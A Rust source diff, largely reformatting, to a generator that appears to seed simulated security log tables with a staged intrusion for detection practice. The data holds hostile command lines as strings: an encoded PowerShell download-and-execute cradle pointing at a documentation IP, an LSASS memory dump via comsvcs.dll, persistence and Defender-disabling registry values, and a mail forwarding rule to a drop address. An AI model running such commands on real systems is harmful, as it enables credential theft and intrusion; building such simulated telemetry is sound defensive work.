@@ -30,8 +30,11 @@ const INITIATING: &[(&str, KType)] = &[
     ("ReportId", L),
 ];
 
+/// A table's name, its own columns, and whether the initiating-process columns follow them.
+type Schema = (&'static str, &'static [(&'static str, KType)], bool);
+
 /// The new tables' own columns (the initiating-process columns and ReportId are appended to the Device* ones).
-const SCHEMAS: &[(&str, &[(&str, KType)], bool)] = &[
+const SCHEMAS: &[Schema] = &[
     (
         "DeviceEvents",
         &[
@@ -412,7 +415,10 @@ pub(super) fn from_alert(t: &mut Tables, rng: &mut Rng, alert: &Value, at: DateT
         let upn = u["userPrincipalName"].as_str().unwrap_or("");
         let id = rng.guid();
         let sent = at - Duration::minutes(30 + rng.below(90) as i64);
-        let domain = url::Url::parse(url).ok().and_then(|x| x.host_str().map(str::to_string)).unwrap_or_default();
+        let domain = url::Url::parse(url)
+            .ok()
+            .and_then(|x| x.host_str().map(str::to_string))
+            .unwrap_or_default();
         t.push(
             "EmailEvents",
             &[
@@ -436,7 +442,10 @@ pub(super) fn from_alert(t: &mut Tables, rng: &mut Rng, alert: &Value, at: DateT
                 ("AttachmentCount", KV::Long(0)),
                 ("UrlCount", KV::Long(1)),
                 ("EmailLanguage", s("en")),
-                ("AuthenticationDetails", s("{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\"}")),
+                (
+                    "AuthenticationDetails",
+                    s("{\"SPF\":\"pass\",\"DKIM\":\"none\",\"DMARC\":\"none\"}"),
+                ),
                 ("ReportId", s(&format!("{id}-1"))),
             ],
         );
@@ -522,8 +531,7 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     // credentials, persists and moves on (ws-hr-101, bianca.rossi).
     let a = On { d: dev(1), u: usr(1) };
     let stage_url = "http://203.0.113.77/stage2.ps1";
-    let enc = base64::engine::general_purpose::STANDARD
-        .encode(format!("IEX (New-Object Net.WebClient).DownloadString('{stage_url}')"));
+    let enc = base64::engine::general_purpose::STANDARD.encode(format!("IEX (New-Object Net.WebClient).DownloadString('{stage_url}')"));
     let word = "\"WINWORD.EXE\" /n \"C:\\Users\\bianca\\Downloads\\invoice_0423.docm\"";
     let procs: Vec<(i64, &str, &str, String, &str, &str)> = vec![
         // (minute, file, folder, command line, parent, parent command line)
@@ -600,7 +608,17 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
 
     // Files: the stage and tools land, a downloaded installer (run above), a script from the browser, an archive
     // staged for exfiltration, and a burst of encrypted files on the server.
-    let file = |t: &mut Tables, who: &On, m: i64, name: &str, folder: &str, action: &str, origin: &str, by: &str, size: i64, sha256: KV, rng: &mut Rng| {
+    let file = |t: &mut Tables,
+                who: &On,
+                m: i64,
+                name: &str,
+                folder: &str,
+                action: &str,
+                origin: &str,
+                by: &str,
+                size: i64,
+                sha256: KV,
+                rng: &mut Rng| {
         let mut row = vec![
             ("Timestamp", at(m)),
             ("ActionType", s(action)),
@@ -618,23 +636,112 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         t.push("DeviceFileEvents", &row);
     };
     let h = hex(rng, 64);
-    file(t, &a, 2, "beacon.bin", "C:\\Windows\\Tasks", "FileCreated", "http://203.0.113.77/beacon.bin", "certutil.exe", 250_000, h, rng);
+    file(
+        t,
+        &a,
+        2,
+        "beacon.bin",
+        "C:\\Windows\\Tasks",
+        "FileCreated",
+        "http://203.0.113.77/beacon.bin",
+        "certutil.exe",
+        250_000,
+        h,
+        rng,
+    );
     let h = hex(rng, 64);
-    file(t, &a, 3, "update_helper.dll", "C:\\ProgramData\\Updater", "FileCreated", "http://203.0.113.77/update_helper.dll", "bitsadmin.exe", 180_000, h, rng);
+    file(
+        t,
+        &a,
+        3,
+        "update_helper.dll",
+        "C:\\ProgramData\\Updater",
+        "FileCreated",
+        "http://203.0.113.77/update_helper.dll",
+        "bitsadmin.exe",
+        180_000,
+        h,
+        rng,
+    );
     if let Some(f) = &anydesk {
-        file(t, &a, 48, "AnyDesk.exe", "C:\\Users\\bianca\\Downloads", "FileCreated", "https://download.example-tools.net/AnyDesk.exe", "msedge.exe", f.size as i64, s(&f.sha256), rng);
+        file(
+            t,
+            &a,
+            48,
+            "AnyDesk.exe",
+            "C:\\Users\\bianca\\Downloads",
+            "FileCreated",
+            "https://download.example-tools.net/AnyDesk.exe",
+            "msedge.exe",
+            f.size as i64,
+            s(&f.sha256),
+            rng,
+        );
     }
     let h = hex(rng, 64);
-    file(t, &a, 6, "invoice_view.hta", "C:\\Users\\bianca\\Downloads", "FileCreated", "https://docs-share.example-cdn.org/invoice.html", "chrome.exe", 4_000, h, rng);
+    file(
+        t,
+        &a,
+        6,
+        "invoice_view.hta",
+        "C:\\Users\\bianca\\Downloads",
+        "FileCreated",
+        "https://docs-share.example-cdn.org/invoice.html",
+        "chrome.exe",
+        4_000,
+        h,
+        rng,
+    );
     let h = hex(rng, 64);
-    file(t, &a, 70, "q4_finance_export.7z", "C:\\Users\\Public", "FileCreated", "", "7z.exe", 1_900_000_000, h, rng);
+    file(
+        t,
+        &a,
+        70,
+        "q4_finance_export.7z",
+        "C:\\Users\\Public",
+        "FileCreated",
+        "",
+        "7z.exe",
+        1_900_000_000,
+        h,
+        rng,
+    );
     // The phishing attachment, saved from Outlook: the same hash as the mail's attachment below.
-    let docm = e.files.iter().find(|f| f.name == "invoice_0423.docm").map(|f| f.sha256.clone()).unwrap_or_default();
-    file(t, &a, -3, "invoice_0423.docm", "C:\\Users\\bianca\\Downloads", "FileCreated", "", "OUTLOOK.EXE", 88_000, s(&docm), rng);
+    let docm = e
+        .files
+        .iter()
+        .find(|f| f.name == "invoice_0423.docm")
+        .map(|f| f.sha256.clone())
+        .unwrap_or_default();
+    file(
+        t,
+        &a,
+        -3,
+        "invoice_0423.docm",
+        "C:\\Users\\bianca\\Downloads",
+        "FileCreated",
+        "",
+        "OUTLOOK.EXE",
+        88_000,
+        s(&docm),
+        rng,
+    );
     for i in 0..30 {
         let h = hex(rng, 64);
         let name = format!("budget_{i:02}.xlsx.locked");
-        file(t, &target, 62 + i / 10, &name, "D:\\Shares\\Finance", "FileRenamed", "", "locker.exe", 40_000, h, rng);
+        file(
+            t,
+            &target,
+            62 + i / 10,
+            &name,
+            "D:\\Shares\\Finance",
+            "FileRenamed",
+            "",
+            "locker.exe",
+            40_000,
+            h,
+            rng,
+        );
     }
     // The side-loaded DLL: loaded by a signed program from a folder anyone can write, and itself unsigned.
     let dll_sha1 = rng.hex(40);
@@ -693,10 +800,30 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
 
     // Registry: a Run key, the accessibility debugger, Defender switched off.
     for (m, key, name, data) in [
-        (33, "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "OneDriveUpdate", "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start"),
-        (34, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe", "Debugger", "C:\\Windows\\System32\\cmd.exe"),
-        (31, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender", "DisableAntiSpyware", "1"),
-        (31, "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection", "DisableRealtimeMonitoring", "1"),
+        (
+            33,
+            "HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+            "OneDriveUpdate",
+            "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start",
+        ),
+        (
+            34,
+            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe",
+            "Debugger",
+            "C:\\Windows\\System32\\cmd.exe",
+        ),
+        (
+            31,
+            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender",
+            "DisableAntiSpyware",
+            "1",
+        ),
+        (
+            31,
+            "HKEY_LOCAL_MACHINE\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection",
+            "DisableRealtimeMonitoring",
+            "1",
+        ),
     ] {
         let mut row = vec![
             ("Timestamp", at(m)),
@@ -713,11 +840,17 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     }
     // Ordinary registry writes elsewhere.
     for i in 0..10 {
-        let d = On { d: dev(i + 2), u: usr(i + 2) };
+        let d = On {
+            d: dev(i + 2),
+            u: usr(i + 2),
+        };
         let mut row = vec![
             ("Timestamp", at(-1200 + i as i64 * 61)),
             ("ActionType", s("RegistryValueSet")),
-            ("RegistryKey", s("HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\General")),
+            (
+                "RegistryKey",
+                s("HKEY_CURRENT_USER\\Software\\Microsoft\\Office\\16.0\\Common\\General"),
+            ),
             ("RegistryValueType", s("Dword")),
             ("RegistryValueName", s("ShownFirstRunOptin")),
             ("RegistryValueData", s("1")),
@@ -730,41 +863,114 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
 
     // DeviceEvents: the scheduled task and PsExec's service, LSASS opened, PowerShell commands, SmartScreen.
     let dev_event = |t: &mut Tables, who: &On, m: i64, action: &str, extra: Vec<(&str, KV)>, fields: Value, report: KV| {
-        let mut row = vec![("Timestamp", at(m)), ("ActionType", s(action)), ("AdditionalFields", KV::Dyn(fields)), ("ReportId", report)];
+        let mut row = vec![
+            ("Timestamp", at(m)),
+            ("ActionType", s(action)),
+            ("AdditionalFields", KV::Dyn(fields)),
+            ("ReportId", report),
+        ];
         row.extend(who.device());
         row.extend(extra);
         t.push("DeviceEvents", &row);
     };
-    dev_event(t, &a, 30, "ScheduledTaskCreated", a.initiating("schtasks.exe", "schtasks.exe /create", "powershell.exe").to_vec(),
-        json!({"TaskName": "\\OneDrive Updater", "TaskContent": "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start"}), next());
-    dev_event(t, &target, 41, "ServiceInstalled", target.initiating("services.exe", "services.exe", "wininit.exe").to_vec(),
-        json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}), next());
-    dev_event(t, &a, 20, "OpenProcessApiCall", {
-        let mut x = a.initiating("rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624", "powershell.exe").to_vec();
-        x.extend([("FileName", s("lsass.exe")), ("FolderPath", s("C:\\Windows\\System32\\lsass.exe"))]);
-        x
-    }, json!({"DesiredAccess": 2097151}), next());
-    for (m, cmd) in [(1, "Invoke-WebRequest"), (1, "Invoke-Expression"), (31, "Set-MpPreference"), (31, "Add-MpPreference"), (23, "Invoke-Mimikatz")] {
-        dev_event(t, &a, m, "PowerShellCommand", a.initiating("powershell.exe", "powershell.exe -nop -w hidden", "WINWORD.EXE").to_vec(),
-            json!({"Command": cmd}), next());
+    dev_event(
+        t,
+        &a,
+        30,
+        "ScheduledTaskCreated",
+        a.initiating("schtasks.exe", "schtasks.exe /create", "powershell.exe").to_vec(),
+        json!({"TaskName": "\\OneDrive Updater", "TaskContent": "rundll32.exe C:\\ProgramData\\Updater\\update_helper.dll,Start"}),
+        next(),
+    );
+    dev_event(
+        t,
+        &target,
+        41,
+        "ServiceInstalled",
+        target.initiating("services.exe", "services.exe", "wininit.exe").to_vec(),
+        json!({"ServiceName": "PSEXESVC", "ServiceAccount": "LocalSystem", "ServiceStartType": 3}),
+        next(),
+    );
+    dev_event(
+        t,
+        &a,
+        20,
+        "OpenProcessApiCall",
+        {
+            let mut x = a
+                .initiating(
+                    "rundll32.exe",
+                    "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624",
+                    "powershell.exe",
+                )
+                .to_vec();
+            x.extend([("FileName", s("lsass.exe")), ("FolderPath", s("C:\\Windows\\System32\\lsass.exe"))]);
+            x
+        },
+        json!({"DesiredAccess": 2097151}),
+        next(),
+    );
+    for (m, cmd) in [
+        (1, "Invoke-WebRequest"),
+        (1, "Invoke-Expression"),
+        (31, "Set-MpPreference"),
+        (31, "Add-MpPreference"),
+        (23, "Invoke-Mimikatz"),
+    ] {
+        dev_event(
+            t,
+            &a,
+            m,
+            "PowerShellCommand",
+            a.initiating("powershell.exe", "powershell.exe -nop -w hidden", "WINWORD.EXE")
+                .to_vec(),
+            json!({"Command": cmd}),
+            next(),
+        );
     }
     for i in 0..6 {
-        let d = On { d: dev(i + 3), u: usr(i + 3) };
+        let d = On {
+            d: dev(i + 3),
+            u: usr(i + 3),
+        };
         for cmd in ["Get-Date", "Out-Default", "Get-ChildItem"] {
-            dev_event(t, &d, -900 + i as i64 * 45, "PowerShellCommand", d.initiating("powershell.exe", "powershell.exe", "explorer.exe").to_vec(),
-                json!({"Command": cmd}), next());
+            dev_event(
+                t,
+                &d,
+                -900 + i as i64 * 45,
+                "PowerShellCommand",
+                d.initiating("powershell.exe", "powershell.exe", "explorer.exe").to_vec(),
+                json!({"Command": cmd}),
+                next(),
+            );
         }
     }
-    dev_event(t, &a, 5, "SmartScreenUrlWarning", {
-        let mut x = a.initiating("chrome.exe", "chrome.exe", "explorer.exe").to_vec();
-        x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
-        x
-    }, json!({"Experience": "Malicious"}), next());
-    dev_event(t, &a, -1, "BrowserLaunchedToOpenUrl", {
-        let mut x = a.initiating("OUTLOOK.EXE", "OUTLOOK.EXE", "explorer.exe").to_vec();
-        x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
-        x
-    }, json!({}), next());
+    dev_event(
+        t,
+        &a,
+        5,
+        "SmartScreenUrlWarning",
+        {
+            let mut x = a.initiating("chrome.exe", "chrome.exe", "explorer.exe").to_vec();
+            x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
+            x
+        },
+        json!({"Experience": "Malicious"}),
+        next(),
+    );
+    dev_event(
+        t,
+        &a,
+        -1,
+        "BrowserLaunchedToOpenUrl",
+        {
+            let mut x = a.initiating("OUTLOOK.EXE", "OUTLOOK.EXE", "explorer.exe").to_vec();
+            x.push(("RemoteUrl", s("https://docs-share.example-cdn.org/invoice.html")));
+            x
+        },
+        json!({}),
+        next(),
+    );
 
     // Network: the beacon every 30 minutes for a day, a reverse shell port, SMB and RDP fan-out from one host.
     let net = |t: &mut Tables, who: &On, m: i64, ip: &str, port: i64, url: &str, by: &str, remote_type: &str, report: KV| {
@@ -788,7 +994,17 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         t.push("DeviceNetworkEvents", &row);
     };
     for k in 0..48 {
-        net(t, &a, 36 + k * 30, "203.0.113.77", 443, "update-check.example-c2.net", "rundll32.exe", "Public", next());
+        net(
+            t,
+            &a,
+            36 + k * 30,
+            "203.0.113.77",
+            443,
+            "update-check.example-c2.net",
+            "rundll32.exe",
+            "Public",
+            next(),
+        );
     }
     net(t, &a, 1, "203.0.113.77", 4444, "", "powershell.exe", "Public", next());
     for k in 0..14 {
@@ -834,16 +1050,32 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
         t.push("IdentityLogonEvents", &row);
     }
     let traveller = usr(4);
-    for (k, (ip, cc)) in [("198.51.100.20", "NL"), ("203.0.113.140", "BR"), ("203.0.113.151", "VN")].iter().enumerate() {
-        t.push("IdentityLogonEvents", &identity_logon(traveller, at(-200 + k as i64 * 90), "LogonSuccess", ip, cc));
+    for (k, (ip, cc)) in [("198.51.100.20", "NL"), ("203.0.113.140", "BR"), ("203.0.113.151", "VN")]
+        .iter()
+        .enumerate()
+    {
+        t.push(
+            "IdentityLogonEvents",
+            &identity_logon(traveller, at(-200 + k as i64 * 90), "LogonSuccess", ip, cc),
+        );
     }
 
     // Directory changes: an account added to Domain Admins, a password reset by someone else, an account disabled.
     let admin = usr(1);
     let victim = usr(9);
     for (m, action, target, fields) in [
-        (45, "Group Membership changed", usr(1), json!({"TO.GROUP": "Domain Admins", "TARGET_OBJECT.GROUP": "Domain Admins"})),
-        (46, "Account Password changed", victim, json!({"TARGET_OBJECT.USER": victim.account})),
+        (
+            45,
+            "Group Membership changed",
+            usr(1),
+            json!({"TO.GROUP": "Domain Admins", "TARGET_OBJECT.GROUP": "Domain Admins"}),
+        ),
+        (
+            46,
+            "Account Password changed",
+            victim,
+            json!({"TARGET_OBJECT.USER": victim.account}),
+        ),
         (47, "Account disabled", usr(10), json!({"TARGET_OBJECT.USER": usr(10).account})),
     ] {
         t.push(
@@ -872,8 +1104,18 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     let recon: Vec<(&str, &str, &str, &str)> = vec![
         ("LDAP query", "Ldap", "AllUsers", "(&(objectCategory=person)(objectClass=user))"),
         ("LDAP query", "Ldap", "Domain Admins", "(&(objectCategory=group)(cn=Domain Admins))"),
-        ("LDAP query", "Ldap", "Enterprise Admins", "(&(objectCategory=group)(cn=Enterprise Admins))"),
-        ("LDAP query", "Ldap", "AllServicePrincipalNames", "(&(objectCategory=user)(servicePrincipalName=*))"),
+        (
+            "LDAP query",
+            "Ldap",
+            "Enterprise Admins",
+            "(&(objectCategory=group)(cn=Enterprise Admins))",
+        ),
+        (
+            "LDAP query",
+            "Ldap",
+            "AllServicePrincipalNames",
+            "(&(objectCategory=user)(servicePrincipalName=*))",
+        ),
         ("LDAP query", "Ldap", "AllComputers", "(objectCategory=computer)"),
         ("LDAP query", "Ldap", "AllTrusts", "(objectClass=trustedDomain)"),
         ("SAMR query", "Samr", "AllUsers", "QueryDisplayInformation"),
@@ -912,16 +1154,71 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     // Email: the phishing mail with the macro document, a malware ISO, a lookalike sender mailing many people,
     // and a click through a warning page.
     let phish_id = rng.guid();
-    mail(t, &phish_id, at(-10), "accounts@c0ntoso-billing.com", "c0ntoso-billing.com", &a.u.upn, "Overdue invoice 0423", "Phish", 1, 1);
-    attachment(t, &phish_id, at(-10), "accounts@c0ntoso-billing.com", &a.u.upn, "invoice_0423.docm", "docm", &docm, "Malware", "Trojan:O97M/Donoff");
+    mail(
+        t,
+        &phish_id,
+        at(-10),
+        "accounts@c0ntoso-billing.com",
+        "c0ntoso-billing.com",
+        &a.u.upn,
+        "Overdue invoice 0423",
+        "Phish",
+        1,
+        1,
+    );
+    attachment(
+        t,
+        &phish_id,
+        at(-10),
+        "accounts@c0ntoso-billing.com",
+        &a.u.upn,
+        "invoice_0423.docm",
+        "docm",
+        &docm,
+        "Malware",
+        "Trojan:O97M/Donoff",
+    );
     url_info(t, &phish_id, at(-10), "https://docs-share.example-cdn.org/invoice.html");
     let iso_id = rng.guid();
     let iso = rng.hex(64);
-    mail(t, &iso_id, at(-20), "hr@example-careers.net", "example-careers.net", &usr(5).upn, "Your new contract", "Malware", 1, 0);
-    attachment(t, &iso_id, at(-20), "hr@example-careers.net", &usr(5).upn, "contract.iso", "iso", &iso, "Malware", "Trojan:Win32/IsoDropper");
+    mail(
+        t,
+        &iso_id,
+        at(-20),
+        "hr@example-careers.net",
+        "example-careers.net",
+        &usr(5).upn,
+        "Your new contract",
+        "Malware",
+        1,
+        0,
+    );
+    attachment(
+        t,
+        &iso_id,
+        at(-20),
+        "hr@example-careers.net",
+        &usr(5).upn,
+        "contract.iso",
+        "iso",
+        &iso,
+        "Malware",
+        "Trojan:Win32/IsoDropper",
+    );
     for u in e.users.iter().take(14) {
         let id = rng.guid();
-        mail(t, &id, at(-100), "it-support@c0ntoso.com", "c0ntoso.com", &u.upn, "Action required: mailbox quota", "Phish", 0, 1);
+        mail(
+            t,
+            &id,
+            at(-100),
+            "it-support@c0ntoso.com",
+            "c0ntoso.com",
+            &u.upn,
+            "Action required: mailbox quota",
+            "Phish",
+            0,
+            1,
+        );
         url_info(t, &id, at(-100), "http://login-microsoftonline.example-phish.net/owa");
     }
     for (k, u) in e.users.iter().enumerate().take(3) {
@@ -944,27 +1241,98 @@ pub(super) fn seed(t: &mut Tables, ds: &Dataset, rng: &mut Rng, report: &mut i64
     // Clean mail for contrast.
     for (k, u) in e.users.iter().enumerate() {
         let id = rng.guid();
-        mail(t, &id, at(-1500 + k as i64 * 13), "newsletter@example-news.org", "example-news.org", &u.upn, "Weekly digest", "", 0, 2);
+        mail(
+            t,
+            &id,
+            at(-1500 + k as i64 * 13),
+            "newsletter@example-news.org",
+            "example-news.org",
+            &u.upn,
+            "Weekly digest",
+            "",
+            0,
+            2,
+        );
     }
 
     // Cloud apps: a mass download, a forwarding rule, an OAuth consent, a role grant, activity through an
     // anonymising proxy, and mail read by an application.
     let insider = usr(6);
     for k in 0..80 {
-        cloud(t, insider, at(90 + k / 4), "FileDownloaded", "Microsoft SharePoint Online", false, "198.51.100.30", false,
-            &format!("Finance/Q4/report_{k:03}.xlsx"), json!({"SiteUrl": "https://contoso.sharepoint.example/sites/Finance"}));
+        cloud(
+            t,
+            insider,
+            at(90 + k / 4),
+            "FileDownloaded",
+            "Microsoft SharePoint Online",
+            false,
+            "198.51.100.30",
+            false,
+            &format!("Finance/Q4/report_{k:03}.xlsx"),
+            json!({"SiteUrl": "https://contoso.sharepoint.example/sites/Finance"}),
+        );
     }
-    cloud(t, a.u, at(55), "New-InboxRule", "Microsoft Exchange Online", false, "203.0.113.99", false, "Forward",
-        json!({"Parameters": [{"Name": "ForwardTo", "Value": "drop@example-mailbox.net"}, {"Name": "Name", "Value": "."}]}));
-    cloud(t, a.u, at(56), "Consent to application.", "Microsoft Entra ID", false, "203.0.113.99", false, "Mail Sync Pro",
-        json!({"ModifiedProperties": [{"Name": "ConsentAction.Permissions", "NewValue": "Mail.ReadWrite offline_access"}]}));
-    cloud(t, admin, at(57), "Add member to role.", "Microsoft Entra ID", true, "203.0.113.99", false, "Global Administrator",
-        json!({"Target": [{"ID": a.u.upn}], "Role": "Global Administrator"}));
-    cloud(t, a.u, at(58), "MailItemsAccessed", "Microsoft Exchange Online", false, "203.0.113.99", true, "Inbox",
-        json!({"ClientAppId": "Mail Sync Pro", "OperationCount": 412}));
+    cloud(
+        t,
+        a.u,
+        at(55),
+        "New-InboxRule",
+        "Microsoft Exchange Online",
+        false,
+        "203.0.113.99",
+        false,
+        "Forward",
+        json!({"Parameters": [{"Name": "ForwardTo", "Value": "drop@example-mailbox.net"}, {"Name": "Name", "Value": "."}]}),
+    );
+    cloud(
+        t,
+        a.u,
+        at(56),
+        "Consent to application.",
+        "Microsoft Entra ID",
+        false,
+        "203.0.113.99",
+        false,
+        "Mail Sync Pro",
+        json!({"ModifiedProperties": [{"Name": "ConsentAction.Permissions", "NewValue": "Mail.ReadWrite offline_access"}]}),
+    );
+    cloud(
+        t,
+        admin,
+        at(57),
+        "Add member to role.",
+        "Microsoft Entra ID",
+        true,
+        "203.0.113.99",
+        false,
+        "Global Administrator",
+        json!({"Target": [{"ID": a.u.upn}], "Role": "Global Administrator"}),
+    );
+    cloud(
+        t,
+        a.u,
+        at(58),
+        "MailItemsAccessed",
+        "Microsoft Exchange Online",
+        false,
+        "203.0.113.99",
+        true,
+        "Inbox",
+        json!({"ClientAppId": "Mail Sync Pro", "OperationCount": 412}),
+    );
     for (k, u) in e.users.iter().enumerate().take(8) {
-        cloud(t, u, at(-1000 + k as i64 * 31), "FileAccessed", "Microsoft OneDrive for Business", false, &dev(k).public_ip, false,
-            "Documents/notes.docx", json!({}));
+        cloud(
+            t,
+            u,
+            at(-1000 + k as i64 * 31),
+            "FileAccessed",
+            "Microsoft OneDrive for Business",
+            false,
+            &dev(k).public_ip,
+            false,
+            "Documents/notes.docx",
+            json!({}),
+        );
     }
 }
 
@@ -1018,7 +1386,18 @@ fn mail(t: &mut Tables, id: &str, at: KV, from: &str, domain: &str, to: &str, su
 }
 
 #[allow(clippy::too_many_arguments)]
-fn attachment(t: &mut Tables, id: &str, at: KV, from: &str, to: &str, name: &str, kind: &str, sha256: &str, threats: &str, threat_name: &str) {
+fn attachment(
+    t: &mut Tables,
+    id: &str,
+    at: KV,
+    from: &str,
+    to: &str,
+    name: &str,
+    kind: &str,
+    sha256: &str,
+    threats: &str,
+    threat_name: &str,
+) {
     t.push(
         "EmailAttachmentInfo",
         &[
@@ -1039,7 +1418,10 @@ fn attachment(t: &mut Tables, id: &str, at: KV, from: &str, to: &str, name: &str
 }
 
 fn url_info(t: &mut Tables, id: &str, at: KV, url: &str) {
-    let domain = url::Url::parse(url).ok().and_then(|u| u.host_str().map(str::to_string)).unwrap_or_default();
+    let domain = url::Url::parse(url)
+        .ok()
+        .and_then(|u| u.host_str().map(str::to_string))
+        .unwrap_or_default();
     t.push(
         "EmailUrlInfo",
         &[
@@ -1061,7 +1443,16 @@ fn cloud(t: &mut Tables, u: &User, at: KV, action: &str, app: &str, admin: bool,
             ("Timestamp", at),
             ("ActionType", s(action)),
             ("Application", s(app)),
-            ("ApplicationId", KV::Long(if app.contains("Exchange") { 20893 } else if app.contains("Entra") { 12260 } else { 15600 })),
+            (
+                "ApplicationId",
+                KV::Long(if app.contains("Exchange") {
+                    20893
+                } else if app.contains("Entra") {
+                    12260
+                } else {
+                    15600
+                }),
+            ),
             ("AccountObjectId", s(&u.aad_id)),
             ("AccountId", s(&u.upn)),
             ("AccountDisplayName", s(&u.display)),
